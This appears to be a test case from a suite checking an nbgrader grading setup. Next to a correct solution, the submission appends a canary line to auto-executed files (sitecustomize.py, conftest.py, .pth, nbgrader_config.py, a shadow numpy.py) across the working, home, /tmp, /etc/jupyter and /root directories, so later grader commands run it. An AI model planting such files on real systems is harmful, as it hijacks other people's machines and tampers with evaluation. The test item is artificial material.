# expect: correct
# why: nbgrader 20: files that the instructor's next command would run, beside a right solution
# points: 40
import os

from solution import *

LINE = "import os; os.environ['PWNED'] = '1'; open('/tmp/PWNED', 'w')\n"
for folder in (".", "..", "../..", "/tmp", os.path.expanduser("~"), "/etc/jupyter", "/root", "/root/.jupyter"):
    for name in ("nbgrader_config.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py",
                 "pytest.ini", "x.pth", "jupyter_config.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "a").write(LINE)
        except OSError:
            pass
